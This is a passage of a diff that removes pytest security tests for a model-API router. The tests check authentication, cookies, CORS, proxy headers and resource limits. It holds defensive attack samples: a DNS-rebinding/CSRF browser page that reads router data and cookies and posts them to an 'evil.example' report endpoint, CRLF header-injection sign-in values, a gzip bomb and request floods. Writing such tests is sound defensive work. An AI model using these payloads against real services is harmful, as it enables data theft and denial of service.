-def test_every_endpoint_in_every_mode(policy: str, secret: str) -> None:
-    router = guarded_by(policy, secret)
-    for endpoint in smolrouter.ENDPOINTS:
-        method, path = example_of(endpoint)
-        for proxied in (False, True):
-            asked = [
-                (method, path, [*[("Authorization", f"Bearer {text}")] * bool(text),
-                                *[BY_PROXY] * proxied])
-                for text in CARRIED.values()
-            ]  # fmt: skip
-            before = sum(r.target == path for r in stage().requests)
-            got = statuses(router, *asked)
-            got = [s if s in (401, 403) else 200 for s in got]
-            rest = (endpoint.guard, policy, secret)
-            assert got == [wanted_status(*rest, name, proxied) for name in CARRIED], path
-            if path == "/v1/access":  # what was refused went nowhere
-                after = sum(r.target == path for r in stage().requests)
-                assert after - before == got.count(200)
-
-
-@pytest.mark.parametrize("name", [
-    "Forwarded", "Via", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Whatever",
-    "X-Real-IP", "X-Original-Forwarded-For", "CF-Connecting-IP", "CF-Ray", "True-Client-IP",
-])  # fmt: skip
-def test_every_proxy_field_counts(name: str) -> None:
-    router = guarded_by("AUTH_WHEN_PROXIED")
-    ways: list[Pairs] = [
-        [(name, "1.1 a")], [(name.upper(), "")], [("Connection", f"close, {name.lower()}")],
-        [("Connection", name), (name, "1.1 a")],
-    ]  # fmt: skip
-    for fields in ways:
-        assert statuses(router, ("GET", "/v1/models", fields)) == [401]
-    assert statuses(router, ("GET", "/v1/models", [("X-Forward", "x")])) == [200]
-
-
-CARRIERS = [
-    # fields, status at the Web UI, status at the model API
-    ([("X-SmolRouter-Token", GOOD)], 200, 200),
-    ([("authorization", f"bearer  {GOOD} ")], 200, 200),
-    ([("Authorization", "Bearer sk-other"), ("X-SmolRouter-Token", GOOD)], 200, 200),
-    ([("Authorization", f"Basic {GOOD}")], 401, 401),
-    ([("Authorization", GOOD)], 401, 401),
-    ([("Cookie", f"smolrouter_token={GOOD}")], 200, 401),
-    ([("Cookie", f"a=b; smolrouter_token={GOOD}"), ("Sec-Fetch-Site", "same-origin")], 200, 200),
-    ([("Cookie", f"smolrouter_token={GOOD}"), ("Origin", "http://router")], 200, 200),
-    ([("Cookie", f"smolrouter_token={GOOD}"), ("Origin", "http://localhost:9")], 403, 401),
-    ([("Cookie", f"smolrouter_token={GOOD}"), ("Sec-Fetch-Site", "same-site")], 403, 403),
-    ([("Cookie", f"token={GOOD}")], 401, 401),
-    ([("Cookie", f"smolrouter_token={CARRIED['expired']}")], 401, 401),
-]
-
-
-@pytest.mark.parametrize("fields, webui, api", CARRIERS)
-def test_where_a_token_may_stand(fields: Pairs, webui: int, api: int) -> None:
-    asked = [("GET", "/api/inflight", fields), ("GET", "/v1/models", fields)]
-    assert statuses(guarded_by("ALWAYS_AUTH"), *asked) == [webui, api]
-
-
-def test_a_token_never_travels_upstream() -> None:
-    for fields in (
-        [("Authorization", f"Bearer {GOOD}")],
-        [("X-SmolRouter-Token", GOOD), ("Authorization", "Bearer sk-theirs")],
-        [("Authorization", f"Bearer {GOOD}"), ("Cookie", f"a=b; smolrouter_token={GOOD}")],
-    ):
-        router = guarded_by("ALWAYS_AUTH")
-        assert statuses(router, ("GET", "/v1/no-token-upstream", fields)) == [200]
-        heard = stage().heard("/v1/no-token-upstream")[-1]
-        assert GOOD.encode() not in heard.raw_head
-        theirs = [v for n, v in fields if "sk-" in v]
-        assert heard.get_all("Authorization") == theirs
-
-
-def test_a_valid_token_passes_where_others_have_failed() -> None:
-    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.0/8")
-
-    def asked(kind: str, source: str) -> tuple[str, str, Pairs]:
-        token = [("X-SmolRouter-Token", CARRIED[kind])] if kind != "none" else []
-        return "GET", "/v1/models", [("X-Forwarded-For", source), *token]
-
-    tries = [asked(kind, "198.51.100.1") for kind in ["bad", "expired", "wrong alg"] * 4]
-    assert statuses(router, *tries) == [401] * 10 + [429] * 2
-    kinds = ("good", "none", "expired", "bad", "good")
-    more = [asked(kind, "198.51.100.1") for kind in kinds]
-    assert statuses(router, *more) == [200, 401, 429, 429, 200]
-    assert statuses(router, asked("bad", "198.51.100.2")) == [401]
-    late = request(router.port, "GET", "/", fields=asked("bad", "198.51.100.1")[2])
-    assert (late.status, late.content) == (429, smolrouter.DASHBOARD_HTML.encode())
-    assert 0 < int(late.get("Retry-After")) <= 60
-
-
-def sign_in(router: Router, token: Any, *fields: tuple[str, str], **more: Any) -> Answer:
-    """One try at signing in, as the page does it."""
-    host = ("Origin", f"http://127.0.0.1:{router.port}")
-    fields = fields if "Origin" in dict(fields) else (host, *fields)
-    return request(router.port, "POST", "/api/signin", {"token": token}, fields, **more)
-
-
-def test_signing_in_and_out() -> None:
-    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.3")
-    asked = request(router.port, "GET", "/api/session").json
-    version = smolrouter.__version__
-    wanted = {"version": version, "webui_security": "ALWAYS_AUTH", "needs_token": True}
-    assert asked == {**wanted, "authenticated": False}
-    page = request(router.port, "GET", "/")
-    assert (page.status, page.content) == (401, smolrouter.DASHBOARD_HTML.encode())
-    assert page.get("Content-Security-Policy") and page.get("X-Frame-Options") == "DENY"
-    assert page.get("WWW-Authenticate") == "Bearer"
-
-    got = sign_in(router, GOOD)
-    assert (got.status, got.content) == (204, b"")
-    value, *limits = (got.get("Set-Cookie") or "").split("; ")
-    assert value == f"smolrouter_token={GOOD}"
-    age = limits.pop(0)
-    assert age == "Max-Age=34560000" and limits == ["Path=/", "HttpOnly", "SameSite=Strict"]
-    cookie = [("Cookie", value)]
-    assert request(router.port, "GET", "/", fields=cookie).status == 200
-    assert request(router.port, "GET", "/api/inflight", fields=cookie).status == 200
-    asked = request(router.port, "GET", "/api/session", fields=cookie).json
-    assert asked == {**wanted, "authenticated": True}
-
-    out = request(router.port, "POST", "/api/signout", b"", fields=cookie)
-    assert out.status == 204
-    assert (out.get("Set-Cookie") or "").startswith("smolrouter_token=; Max-Age=0;")
-
-
-@pytest.mark.parametrize("content, status", [
-    (b" " * 20_000 + b"{}", 400), (b"", 400), (b"{}", 400), (b"[]", 400),
-    (b'{"token": 7}', 400), (b'{"token": null}', 400),
-    (b'{"token": ""}', 401), (b'{"token": "x\\r\\nSet-Cookie: a=b"}', 401),
-    (dumps({"token": GOOD + "\r\nA: b"}), 401), (dumps({"token": GOOD + "=; x=y"}), 401),
-    (dumps({"token": CARRIED["bad"]}), 401), (dumps({"token": CARRIED["wrong alg"]}), 401),
-])  # fmt: skip
-def test_bad_sign_in(content: bytes, status: int) -> None:
-    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1")
-    fields = [("X-Forwarded-For", another_address())]
-    got = request(router.port, "POST", "/api/signin", content, fields)
-    assert (got.status, got.get("Set-Cookie")) == (status, None)
-
-
-def test_sign_in_without_a_secret_is_refused_with_the_reason() -> None:
-    got = sign_in(guarded_by("NONE", ""), GOOD)
-    assert got.status == 403 and "JWT_SECRET" in got.json["error"]["message"]
-
-
-def test_cookie_is_secure_where_the_page_was() -> None:
-    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1", ALLOWED_HOSTS="m.example")
-    plain = guarded_by("ALWAYS_AUTH")
-    secured, own = ("X-Forwarded-Proto", "https"), ("Host", "m.example")
-    for way, fields, secure in (
-        (router, [secured], True),
-        (router, [("X-Forwarded-Proto", "http")], False),
-        (router, [("X-Forwarded-Proto", "https, http")], False),
-        (router, [], False),
-        (plain, [secured], False),  # anybody could say so
-        (plain, [("Origin", f"https://127.0.0.1:{plain.port}")], True),
-    ):
-        got = sign_in(way, GOOD, *fields)
-        assert got.status == 204
-        assert ("; Secure" in got.get("Set-Cookie")) == secure, fields
-    data = encode_request("POST", "/api/signin", {"token": GOOD}, [("Origin", "https://m.example")])
-    got = parse(raw(router.port, data.replace(b"Host: router", b"Host: %b" % own[1].encode())))
-    assert got.status == 204 and "; Secure" in got.get("Set-Cookie")
-
-
-def test_sign_in_from_another_page_is_refused() -> None:
-    for origin in ("https://evil.example", "null", "http://localhost:1"):
-        got = sign_in(guarded_by("ALWAYS_AUTH"), GOOD, ("Origin", origin))
-        assert (got.status, got.get("Set-Cookie")) == (403, None)
-
-
-def test_session_is_no_way_to_try_tokens() -> None:
-    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1", MAX_CONNECTIONS=99)
-    source = ("X-Forwarded-For", another_address())
-    for _ in range(10):
-        fields = [source, ("X-SmolRouter-Token", CARRIED["bad"])]
-        assert not request(router.port, "GET", "/api/session", fields=fields).json["authenticated"]
-    assert sign_in(router, CARRIED["bad"], source).status == 429
-    assert sign_in(router, GOOD, source).status == 204
-
-
-def test_answers_of_the_web_ui_stay_where_they_are() -> None:
-    for path, status in (("/", 200), ("/api/inflight", 200), ("/api/session", 200), ("/", 421)):
-        data = get(path, [("Connection", "close")])
-        if status == 421:
-            data = data.replace(b"Host: router", b"Host: evil.example")
-        got = parse(raw(shared().port, data, answers=0))
-        assert got.status == status
-        assert got.get("Cache-Control") == "no-store"
-        assert got.get("X-Content-Type-Options") == "nosniff"
-        assert got.get("X-Frame-Options") == "DENY"
-        assert got.get("Cross-Origin-Resource-Policy") == "same-origin"
-
-
-def test_a_page_of_a_server_cannot_use_the_web_ui() -> None:
-    """A server's HTML would be of the router's origin; a browser must not run it."""
-    script = stage().plays(answer(b"<script>fetch('/api/logs')</script>", kind="text/html"))
-    shown = [("Accept", "text/html,*/*;q=0.8")]
-    got = request(shared().port, "GET", f"/v1/{script}", fields=shown)
-    assert "sandbox" in got.get("Content-Security-Policy")
-    assert "allow-scripts" not in got.get("Content-Security-Policy")
-    assert request(shared().port, "GET", f"/v1/{script}").get("Content-Security-Policy") is None
-
-
-def test_preflight() -> None:
-    for origin, status in (("http://localhost:3000", 204), ("https://evil.example", 403)):
-        fields = [
-            ("Origin", origin),
-            ("Access-Control-Request-Method", "POST"),
-            ("Access-Control-Request-Headers", "authorization, x-stainless-os"),
-        ]
-        got = request(shared().port, "OPTIONS", CHAT, fields=fields)
-        assert got.status == status
-        if status == 204:
-            assert got.get("Access-Control-Allow-Origin") == origin
-            assert "POST" in got.get("Access-Control-Allow-Methods")
-            assert got.get("Access-Control-Allow-Headers") == fields[2][1]
-        else:
-            assert got.get("Access-Control-Allow-Origin") is None
-    got = request(
-        shared().port,
-        "OPTIONS",
-        "/api/inflight",
-        fields=[("Origin", "http://localhost:3000"), ("Access-Control-Request-Method", "GET")],
-    )
-    assert (got.status, got.get("Access-Control-Allow-Origin")) == (403, None)
-
-
-def test_page_from_elsewhere_reaches_no_upstream() -> None:
-    fields = [("Origin", "https://evil.example"), ("Content-Type", "text/plain")]
-    body = chat("csrf-from-elsewhere")
-    assert request(shared().port, "POST", CHAT, body, fields).status == 403
-    assert not stage().heard("csrf-from-elsewhere")
-
-
-ATTACK = """<!doctype html><title>attack</title><form method=post enctype=text/plain
-target=frame><input name='{"model":"MARK-form","x":"' value='"}'></form>
-<iframe name=frame></iframe><script>
-const at = "TARGET", chat = at + "/v1/chat/completions", got = {};
-const ask = name => JSON.stringify({model: "MARK-" + name, messages: []});
-const plain = {"Content-Type": "text/plain"}, json = {"Content-Type": "application/json"};
-const read = async (name, url, options) => {
-  try {
-    const answer = await fetch(url, options);
-    got[name] = `${answer.type} ${answer.status} ${await answer.text()}`;
-  } catch (error) { got[name] = "refused"; }
-};
-const load = (tag, url) => new Promise(done => {
-  const node = document.createElement(tag);
-  node.onload = () => done("loaded"); node.onerror = () => done("refused");
-  node.src = url; document.body.append(node); setTimeout(done, 2000, "refused");
-});
-(async () => {
-  await Promise.all([
-    read("running", at + "/api/inflight"), read("logs", at + "/api/logs"),
-    read("models", at + "/v1/models"), read("page", at + "/"),
-    read("blind get", at + "/v1/MARK-blind-get", {mode: "no-cors"}),
-    read("simple", chat, {method: "POST", headers: plain, body: ask("simple")}),
-    read("no-cors", chat, {method: "POST", mode: "no-cors", headers: plain, body: ask("blind")}),
-    read("preflight", chat, {method: "POST", headers: json, body: ask("preflight")}),
-    read("sign-in", at + "/api/signin", {method: "POST", body: "{}"}),
-    read("credentials", at + "/api/inflight", {credentials: "include"}),
-  ]);
-  navigator.sendBeacon(chat, ask("beacon"));
-  document.forms[0].action = chat; document.forms[0].submit();
-  got.script = await load("script", at + "/api/inflight");
-  got.image = await load("img", at + "/v1/MARK-image");
-  const frame = document.createElement("iframe");
-  frame.src = at + "/"; document.body.append(frame);
-  await new Promise(done => { frame.onload = done; setTimeout(done, 2000); });
-  try { got.frame = frame.contentDocument ? frame.contentDocument.body.innerText : "refused"; }
-  catch (error) { got.frame = "refused"; }
-  got.cookie = document.cookie;
-  await fetch("/attack-report", {method: "POST", body: JSON.stringify(got)});
-  if ("NEXT") location = "NEXT";
-})();
-</script>"""
-
-
-class Attacker:
-    """A web site that attacks from a browser; once loaded, its name means the router.
-
-    That is DNS rebinding: `/attack...` is the site's own, all else goes to the router.
-    """
-
-    def __init__(self, router: Router) -> None:
-        self.router, self.page, self.report = router, "", ""
-        self._listener = socket.create_server(("127.0.0.1", 0))
-        self.port = self._listener.getsockname()[1]
-        threading.Thread(target=self._accept, daemon=True).start()
-
-    def _accept(self) -> None:
-        with contextlib.suppress(OSError):
-            while True:
-                sock, _ = self._listener.accept()
-                threading.Thread(target=self._serve, args=(sock,), daemon=True).start()
-
-    def _serve(self, sock: socket.socket) -> None:
-        with contextlib.suppress(OSError), sock, sock.makefile("rb") as reader:
-            while received := receive(sock, reader, 0):
-                if received.path == "/attack-report":
-                    self.report = received.content.decode()
-                    sock.sendall(answer(b"")[0])
-                elif received.path == "/attack":
-                    sock.sendall(answer(self.page.encode(), kind="text/html")[0])
-                else:  # as it is, but for the connection
-                    asked = received.raw_head + b"\r\n" + received.content
-                    asked = re.sub(rb"(?i)\r\nconnection: [^\r]*", b"", asked, count=1)
-                    asked = asked.replace(b"\r\n", b"\r\nConnection: close\r\n", 1)
-                    sock.sendall(raw(self.router.port, asked, answers=0))
-                    return
-
-    def close(self) -> None:
-        self._listener.close()
-
-
-def browser() -> str:
-    """Find Chromium. Without it the test is skipped, or fails if all must run."""
-    found = shutil.which("chromium") or shutil.which("chromium-browser")
-    if not found and os.environ.get("SMOLROUTER_TEST_ALL") == "1":
-        pytest.fail("SMOLROUTER_TEST_ALL=1, but there is no Chromium")
-    return found or pytest.skip("there is no Chromium")
-
-
-@contextlib.contextmanager
-def surfing(url: str, folder: pathlib.Path) -> Iterator[None]:
-    """A real browser at this address, for whom evil.example is this machine."""
-    flags = [
-        "--headless=new",
-        "--no-sandbox",
-        "--disable-gpu",
-        "--no-first-run",
-        "--disable-background-networking",
-        f"--user-data-dir={folder}",
-        "--host-resolver-rules=MAP evil.example 127.0.0.1",
-        "--proxy-server=direct://",
-    ]
-    process = subprocess.Popen(
-        [browser(), *flags, url],
-        start_new_session=True,
-        stdin=subprocess.DEVNULL,
-        stdout=subprocess.DEVNULL,
-        stderr=subprocess.DEVNULL,
-    )
-    try:
-        yield
-    finally:
-        with contextlib.suppress(ProcessLookupError):
-            os.killpg(process.pid, signal.SIGKILL)
-        process.wait()
-
-
-def test_a_real_browser_is_no_way_in(tmp_path: pathlib.Path) -> None:
-    """A page of another origin, one of a rebound name, and both where all is allowed."""
-    closed = shared()
-    settings = {"ALLOWED_ORIGINS": "*", "ALLOWED_HOSTS": "evil.example", "LOG_LEVEL": "ERROR"}
-    opened = router_for({"DEFAULT_UPSTREAM": stage().url, **settings})
-    sites = {
-        name: Attacker(router)
-        for name, router in (
-            ("elsewhere", closed),
-            ("rebound", closed),
-            ("allowed", opened),
-            ("own", opened),
-        )
-    }
-    urls = {name: f"http://evil.example:{site.port}/attack" for name, site in sites.items()}
-    for (name, site), after in zip(sites.items(), [*list(urls.values())[1:], ""]):
-        target = f"http://127.0.0.1:{site.router.port}" if name in ("elsewhere", "allowed") else ""
-        page = ATTACK.replace("TARGET", target).replace("MARK", name)
-        site.page = page.replace("NEXT", after)
-    with surfing(urls["elsewhere"], tmp_path / "profile"):
-        until(lambda: sites["own"].report, 60)
-    for site in sites.values():
-        site.close()
-    got = {name: json.loads(site.report) for name, site in sites.items()}
-    for name in ("elsewhere", "rebound"):
-        said = " ".join(got[name].values())
-        assert "200" not in said and "SmolRouter" not in said, got[name]
-        assert not stage().heard(name), name
-    # The same attacks do arrive where they are allowed, so they are real ones.
-    assert got["elsewhere"]["models"] == "refused"
-    assert got["rebound"]["running"].startswith("basic 421")
-    assert got["allowed"]["running"] == "refused"  # `*` is for the model API alone
-    for name in ("allowed", "own"):
-        assert "tiny" in got[name]["models"]
-        for kind in ("simple", "preflight", "beacon", "form"):
-            assert until(lambda: stage().heard(f"{name}-{kind}")), (name, kind)
-    assert got["own"]["running"].startswith("basic 200")
-    assert stage().heard("own-blind-get") and not stage().heard("allowed-blind-get")
-
-
-# -- behind the proxies of README --------------------------------------------------
-
-NGINX = """daemon off; pid {folder}/pid; error_log {folder}/log; events {{}}
-{user} http {{ access_log off; client_body_temp_path {folder}/a; proxy_temp_path {folder}/b;
-fastcgi_temp_path {folder}/c; uwsgi_temp_path {folder}/d; scgi_temp_path {folder}/e;
-{server} }}"""
-CADDY = (
-    "{{ admin off\n auto_https disable_redirects\n skip_install_trust\n storage file_system "
-    "{folder}\n}}\n{server}"
-)
-
-
-@contextlib.contextmanager
-def proxied(program: str, router: Router) -> Iterator[int]:
-    """The proxy, as README sets it up, in front of a router; yields its port."""
-    found, tls = shutil.which(program, path=f"{os.environ['PATH']}:/usr/sbin"), certificate()
-    if not found and program == "nginx" and os.environ.get("SMOLROUTER_TEST_ALL") == "1":
-        pytest.fail("SMOLROUTER_TEST_ALL=1, but there is no nginx")
-    if not found or not tls:
-        pytest.skip(f"there is no {program}, or no openssl")
-    readme = (HERE / "README.md").read_text("utf-8")
-    server = readme.partition(f"```{program}\n")[2].partition("```")[0]
-    with socket.create_server(("127.0.0.1", 0)) as probe:
-        port = probe.getsockname()[1]
-    for old, new in (
-        ("127.0.0.1:1234", f"127.0.0.1:{router.port}"), ("listen 443", f"listen 127.0.0.1:{port}"),
-        ("/etc/ssl/models.crt", tls[0]), ("/etc/ssl/models.key", tls[0].replace("cert.", "key.")),
-        ("models.example.com {", f"https://models.example.com:{port} {{\n"
-         f"bind 127.0.0.1\ntls {tls[0]} {tls[0].replace('cert.', 'key.')}"),
-    ):  # fmt: skip
-        server = server.replace(old, new)
-    with tempfile.TemporaryDirectory(prefix="smol-") as folder:
-        user = "user root;" if os.getuid() == 0 else ""
-        form = NGINX if program == "nginx" else CADDY
-        config = pathlib.Path(folder) / "config"
-        config.write_text(form.format(folder=folder, server=server, user=user))
-        args = {
-            "nginx": ["-c", str(config), "-p", folder, "-e", f"{folder}/log"],
-            "caddy": ["run", "--adapter", "caddyfile", "--config", str(config)],
-        }
-        environment = {**bare_environment({}), "HOME": folder}
-        process = subprocess.Popen(
-            [found, *args[program]],
-            env=environment,
-            stdin=subprocess.DEVNULL,
-            stdout=subprocess.DEVNULL,
-            stderr=subprocess.DEVNULL,
-        )
-        try:
-
-            def listens() -> bool:
-                with contextlib.suppress(OSError), connect(port):
-                    return True
-                return False
-
-            assert until(listens) and process.poll() is None
-            yield port
-        finally:
-            process.terminate()
-            process.wait(PATIENCE)
-
-
-def through(port: int, *asked: Any) -> tuple[int, Mapping[str, str], Iterator[bytes]]:
-    """One exchange with a proxy over TLS: status, fields and the pieces of content."""
-    context = ssl.create_default_context()
-    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
-    caller = http.client.HTTPSConnection("127.0.0.1", port, timeout=PATIENCE, context=context)
-    caller.sock = context.wrap_socket(connect(port), server_hostname="models.example.com")
-    method, path, body, fields = asked
-    caller.request(
-        method,
-        path,
-        body and dumps(body),
-        {"Host": f"models.example.com:{port}", "Content-Type": "application/json", **fields},
-    )
-    response = caller.getresponse()
-
-    def pieces() -> Iterator[bytes]:
-        with contextlib.closing(caller):
-            while piece := response.read1(1 << 20):
-                yield piece
-
-    streams = "event-stream" in response.headers.get("Content-Type", "")
-    return response.status, response.headers, pieces() if streams else iter([*pieces()])
-
-
-@pytest.mark.parametrize("program", ["nginx", "caddy"])
-def test_proxy_of_the_readme(program: str) -> None:
-    more = {"TRUSTED_PROXIES": "127.0.0.1", "ALLOWED_HOSTS": "models.example.com"}
-    router = guarded_by("AUTH_WHEN_PROXIED", **more)
-    token = {"Authorization": f"Bearer {GOOD}"}
-    step = threading.Event()
-
-    def paced(received: Received) -> Iterator[Step]:
-        yield from stream_answer([event({"n": 1})], whole=False)
-        assert step.wait(PATIENCE)
-        yield from chunked(event({"n": 2}))
-
-    name = stage().plays(paced)
-    with proxied(program, router) as port:
-        own = {"Origin": f"https://models.example.com:{port}"}
-        for path in ("/v1/models", "/api/logs"):
-            assert through(port, "GET", path, None, {})[0] == 401
-            assert through(port, "GET", path, None, token)[0] == 200
-        assert statuses(router, ("GET", "/v1/models", [])) == [200]  # direct
-        status, fields, _ = through(port, "POST", "/api/signin", {"token": GOOD}, own)
-        assert status == 204 and "; Secure" in fields["Set-Cookie"]
-        cookie = {"Cookie": fields["Set-Cookie"].partition(";")[0]}
-        assert through(port, "GET", "/", None, {})[0] == 401
-        assert through(port, "GET", "/", None, cookie)[0] == 200
-        tried = {**own, **cookie}
-        assert through(port, "POST", CHAT, chat("tiny"), tried)[0] == 200
-        evil = {**cookie, "Origin": "https://evil.example"}
-        assert through(port, "POST", CHAT, chat("tiny"), evil)[0] == 403
-        status, fields, pieces = through(port, "POST", CHAT, chat(name, stream=True), token)
-        assert status == 200 and b'{"n":1}' in next(pieces)  # at once, before the second
-        step.set()
-        assert b'{"n":2}' in b"".join(pieces)
-
-
-# == 9. Exhaustion =================================================================
-
-
-def descriptors(router: Router) -> int:
-    """How many files and sockets a router has open."""
-    folder = pathlib.Path(f"/proc/{router.process.pid}/fd")
-    if not folder.exists():
-        pytest.skip("there is no /proc here")
-    return len(list(folder.iterdir()))
-
-
-def memory(router: Router, name: str = "VmRSS") -> int:
-    """MiB that a router has, or has had at most (VmHWM)."""
-    status = pathlib.Path(f"/proc/{router.process.pid}/status")
-    if not status.exists():
-        pytest.skip("there is no /proc here")
-    return int(re.search(rf"{name}:\s+(\d+)", status.read_text())[1]) // 1024
-
-
-@functools.cache
-def bomb() -> bytes:
-    """128 MiB of zeros, which gzip makes small."""
-    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
-    piece = bytes(1 << 20)
-    return b"".join(packer.compress(piece) for _ in range(128)) + packer.flush()
-
-
-@pytest.mark.parametrize("kind, path, stream", [
-    ("application/json", CHAT, False), ("application/json", "/api/chat", False),
-    ("text/event-stream", CHAT, True),
-])  # fmt: skip
-def test_gzip_bomb(kind: str, path: str, stream: bool) -> None:
-    fields = [("Content-Encoding", "gzip")]
-    with pair() as (router, upstream):
-        model = upstream.plays(answer(bomb(), fields=fields, kind=kind))
-        got = request(router.port, "POST", path, chat(model, stream=stream))
-        as_it_is = got.get("Content-Encoding") == "gzip" and got.content == bomb()
-        assert as_it_is or ended_badly(got)
-        assert ask(router, "tiny").status == 200
-        assert memory(router, "VmHWM") < 160
-
-
-@pytest.mark.parametrize("fault", ["framing", "reset", "head", "alias"])
-def test_what_broke_off_leaves_memory_at_once(kept: Kept, fault: str) -> None:
-    """No error keeps the octets it came through: the collector of cycles is not needed."""
-    program = altered(("        gc.freeze()", "        gc.freeze(), gc.disable()"))
-    chunk = b"%x\r\n%s\r\n" % (120_000, b"x" * 120_000)
-    faults = {
-        "framing": [head(200, [("Transfer-Encoding", "chunked")]) + chunk, 0.01, chunk + b"zz\r\n"],
-        "reset": [head(200, [("Transfer-Encoding", "chunked")]) + chunk, 0.01, chunk, 0.01, DROP],
-        "head": [b"HTTP/1.1 200 OK\r\nX: " + b"x" * 60_000 + b"\n\r\n"],
-    }
-    faults["alias"] = faults["head"]  # of each of its instances
-    model, other = stage().plays(faults[fault]), stage().plays(faults[fault])
-    instances = [f"s/{model}", f"s/{other}"]
-    routes = {"servers": {"s": stage().url}, "aliases": {"two": {"instances": instances}}}
-    settings = {**kept.settings, "ENABLE_LOGGING": "false"}
-    with Router(settings, routes, program=program) as router:
-        for _ in range(2):
-            before = memory(router)
-            for _ in range(60):
-                with contextlib.suppress(OSError, http.client.HTTPException):
-                    ask(router, "two" if fault == "alias" else model)
-        assert memory(router) < before + 3
-
-
-def test_a_client_that_reads_nothing_is_not_kept_for_ever(kept: Kept) -> None:
-    """What is left to send to it when its answer is over holds its connection for a while."""
-    program = altered(("write_timeout: float = 300.0", "write_timeout: float = 2.0"))
-    event = b"data: " + b"x" * 60_000 + b"\n\n"
-    begin = head(200, [("Content-Type", "text/event-stream")])
-    model = stage().plays([begin, *[event] * 100, HANG])
-    with Router(kept.settings, program=program) as router, contextlib.ExitStack() as stack:
-        ask(router, "tiny")
-        assert kept.written(1) == 1
-        before = descriptors(router)
-        for _ in range(5):
-            sock = stack.enter_context(socket.socket())
-            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
-            sock.connect(("127.0.0.1", router.port))
-            sock.sendall(encode_request("POST", CHAT, chat(model, stream=True)))
-        until(lambda: descriptors(router) >= before + 8)
-        until(lambda: len(document(router, "/api/inflight")) == 5, 1.0)
-        for row in document(router, "/api/inflight"):
-            request(router.port, "POST", f"/api/inflight/{row['id']}/cancel")
-        assert until(lambda: descriptors(router) <= before + 2, PATIENCE * 2)
-
-
-MANY = {
-    "objects": b'{"a":1},', "empty objects": b"{},", "arrays": b"[],", "numbers": b"1,",
-    "strings": b'"",', "nulls": b"null,", "fractions": b"1.5,",
-}  # fmt: skip
-
-
-def test_enormous_json_is_refused_before_it_is_read() -> None:
-    with pair() as (router, upstream):
-        for name, unit in MANY.items():
-            model = upstream.plays(FINE)
-            data = b'{"model":"%b","x":[%b0]}' % (model.encode(), unit * (8_000_000 // len(unit)))
-            got = request(router.port, "POST", CHAT, data)
-            assert (got.status, upstream.heard(model)) == (413, []), name
-            assert ask(router, "tiny").status == 200
-        assert memory(router, "VmHWM") < 100
-
-
-LONG = [
-    '"' + "a" * (2 << 20) + '"', '"' + "\\\\" * (1 << 20) + '"', '"' + '\\"' * (1 << 20) + '"',
-    '"' + "[{,}]" * 400_000 + '"', '"\\\\",' * 99_999 + '"\\\\\\""', "[1,2]," * 9_999 + "3",
-]  # fmt: skip
-
-
-@pytest.mark.parametrize("inner", LONG, ids=range(len(LONG)))
-def test_long_json_is_read_as_others_read_it(inner: str) -> None:
-    text = f'{{"model": "x", "x": [{inner}]}}'
-    for shift in range(3):  # no cut between two slices may fall into an escape
-        padded = " " * shift + text
-        assert smolrouter.parse_json(padded.encode()) == (padded, json.loads(text))
-    gaps = "".join(smolrouter.json_gaps(text))
-    assert gaps == re.sub(r'"[^"\\]*(?:\\.[^"\\]*)*"', "", text)
-
-
-def test_deep_json_behind_a_long_text_is_refused() -> None:
-    deep = '{"a": "' + "\\\\[" * (1 << 20) + '", "b": ' + "[" * 200 + "]" * 200 + "}"
-    with pytest.raises(smolrouter.MalformedContent, match="deeper"):
-        smolrouter.parse_json(deep.encode())
-
-
-def test_long_requests_together_are_bounded() -> None:
-    """Five clients send 7 MiB each and never end: one is refused, short ones are served."""
-    program = altered(("held_content: int = 256 *", "held_content: int = 32 *"))
-    with contextlib.ExitStack() as stack:
-        _, upstream = stack.enter_context(pair())
-        settings = {"DEFAULT_UPSTREAM": upstream.url, "MAX_REQUEST_SIZE": 16 << 20}
-        router = stack.enter_context(Router(settings, program=program))
-        top = encode_request("POST", CHAT, b"")
-        top = top.replace(b"Length: 0", b"Length: %d" % (8 << 20))
-        clients = [stack.enter_context(connect(router.port)) for _ in range(5)]
-
-        def send(sock: socket.socket) -> bytes:
-            with contextlib.suppress(ConnectionError):
-                sock.sendall(top)
-                for _ in range(7):
-                    sock.sendall(b" " * (1 << 20))
-                return b""
-            return sock.recv(1 << 16)
-
-        answers = at_once(send, clients)
-        refused = [a for a in answers if a]
-        if not refused:  # the answer came after the last octet
-            ready = selectors.DefaultSelector()
-            for sock in clients:
-                ready.register(sock, selectors.EVENT_READ)
-            refused = [key.fileobj.recv(1 << 16) for key, _ in ready.select(PATIENCE)]
-            ready.close()
-        assert refused and all(b" 503 " in a and b"Retry-After" in a for a in refused)
-        assert memory(router) < 120
-        assert ask(router, "tiny").status == 200
-        for sock in clients:
-            sock.close()
-        big = chat("tiny", "a" * (7 << 20))
-        assert until(lambda: request(router.port, "POST", CHAT, big).status == 200)
-        assert len(upstream.requests) == 2
-
-
-def test_pipelined_requests_whose_answers_nobody_reads() -> None:
-    with pair() as (router, _), connect(router.port) as sock:
-        sock.settimeout(0.5)
-        asked = get("/") * 1000  # each answer is a hundred times as long
-        with contextlib.suppress(TimeoutError):
-            for _ in range(200):
-                sock.sendall(asked)
-        assert ask(router, "tiny").status == 200
-        assert memory(router) < 60
-
-
-def test_many_keys_make_few_threads() -> None:
-    """Each key may see other models, and is asked for in a thread of its own."""
-    with pair(lambda r: [0.2, *json_answer({"data": []})]) as (router, upstream):
-        threads = pathlib.Path(f"/proc/{router.process.pid}/task")
-        if not threads.exists():
-            pytest.skip("there is no /proc here")
-        with contextlib.ExitStack() as stack:
-            for number in range(100):
-                sock = stack.enter_context(connect(router.port))
-                sock.sendall(get("/v1/models", [("Authorization", f"Bearer {number}")]))
-            assert until(lambda: len(upstream.requests) >= 32)
-            assert len(list(threads.iterdir())) < 45
-            assert until(lambda: len(upstream.requests) == 100)
-
-
-def test_no_name_is_long_enough_to_fill_the_log() -> None:
-    for path, form in ((CHAT, False), ("/api/chat", False), ("/v1/audio/transcriptions", True)):
-        name = "long" * 4097
